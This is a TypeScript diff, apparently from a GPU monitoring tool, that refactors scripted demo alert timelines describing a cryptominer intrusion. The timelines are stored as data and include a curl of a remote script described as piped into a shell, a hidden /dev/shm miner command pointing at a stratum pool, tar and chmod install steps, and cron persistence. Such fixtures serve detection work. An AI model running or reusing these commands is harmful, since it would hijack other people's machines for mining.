@@ -1,56 +1,34 @@
 import { HOUR_MS, MINUTE_MS } from '@gpu-observatory/domain-types';
-import type { TimelineStep } from '../alerts/timeline-scripts.ts';
-import type { ClaimHost, ScriptedAlert, Story } from './story.ts';
+import { type ClaimHost, type ScriptedAlert, step, type Story } from './story.ts';
 
 const MINER = '/dev/shm/.x/kworkerd -a kawpow -o stratum+tcp://pool.example.net:14444 -u wallet.7';
 
-const entry: TimelineStep[] = [
-  {
-    type: 'login',
-    info: 'notebook server without a password opened from {ip}',
-    fields: ['comm', 'command_line'],
-    command: '/opt/conda/bin/jupyter-lab --ip=0.0.0.0 --no-browser',
-  },
-  {
-    type: 'process_exec',
-    info: 'terminal of the notebook server started',
-    fields: ['comm', 'command_line'],
-    command: '/bin/bash -l',
-  },
-  {
-    type: 'process_exec',
-    info: 'script from a public address piped into a shell',
-    fields: ['comm', 'command_line', 'pwd'],
-    command: 'curl -fsSL http://updates.example.com/i.sh',
-  },
+const COMMAND = ['comm', 'command_line'] as const;
+
+const entry = [
+  step(
+    'login',
+    'notebook server without a password opened from {ip}',
+    COMMAND,
+    '/opt/conda/bin/jupyter-lab --ip=0.0.0.0 --no-browser',
+  ),
+  step('process_exec', 'terminal of the notebook server started', COMMAND, '/bin/bash -l'),
+  step(
+    'process_exec',
+    'script from a public address piped into a shell',
+    [...COMMAND, 'pwd'],
+    'curl -fsSL http://updates.example.com/i.sh',
+  ),
 ];
-const install: TimelineStep[] = [
-  {
-    type: 'file_open',
-    info: '/dev/shm/.x/kworkerd opened for writing',
-    fields: ['comm'],
-    command: 'tar xzf /dev/shm/.x.tgz',
-  },
-  {
-    type: 'file_chmod',
-    info: '/dev/shm/.x/kworkerd made executable',
-    fields: ['comm'],
-    command: 'chmod +x /dev/shm/.x/kworkerd',
-  },
-  {
-    type: 'process_exec',
-    info: 'kworkerd started, parent exited',
-    fields: ['comm', 'command_line', 'args', 'pwd'],
-  },
+const install = [
+  step('file_open', '/dev/shm/.x/kworkerd opened for writing', ['comm'], 'tar xzf /dev/shm/.x.tgz'),
+  step('file_chmod', '/dev/shm/.x/kworkerd made executable', ['comm'], 'chmod +x /dev/shm/.x/kworkerd'),
+  step('process_exec', 'kworkerd started, parent exited', [...COMMAND, 'args', 'pwd']),
 ];
-const mining: TimelineStep[] = [
-  { type: 'network_connect', info: 'TCP connection to {ip}:14444', fields: ['comm', 'command_line'] },
-  { type: 'gpu_context', info: 'compute context created on all GPUs of {host}', fields: ['comm'] },
-  {
-    type: 'gpu_kernel_launch',
-    info: 'proof-of-work kernels, 99 % utilization',
-    fields: ['comm', 'command_line'],
-  },
+const mining = [
+  step('network_connect', 'TCP connection to {ip}:14444', COMMAND),
+  step('gpu_context', 'compute context created on all GPUs of {host}'),
+  step('gpu_kernel_launch', 'proof-of-work kernels, 99 % utilization', COMMAND),
 ];
 
 type Texts = Pick<ScriptedAlert, 'type' | 'severity' | 'title' | 'description' | 'steps' | 'command'>;
@@ -126,13 +104,8 @@ const alerts: [minutesBefore: number, texts: Texts][] = [
         '{process} was killed on {host} and started again by cron within a minute. Remove its entry before you kill it.',
       command: MINER,
       steps: [
-        { type: 'process_exit', info: 'kworkerd ended with signal 9', fields: ['comm'] },
-        {
-          type: 'process_exec',
-          info: 'kworkerd started by cron',
-          fields: ['comm', 'command_line'],
-          command: '/usr/sbin/cron -f',
-        },
+        step('process_exit', 'kworkerd ended with signal 9'),
+        step('process_exec', 'kworkerd started by cron', COMMAND, '/usr/sbin/cron -f'),
         mining[2]!,
       ],
     },
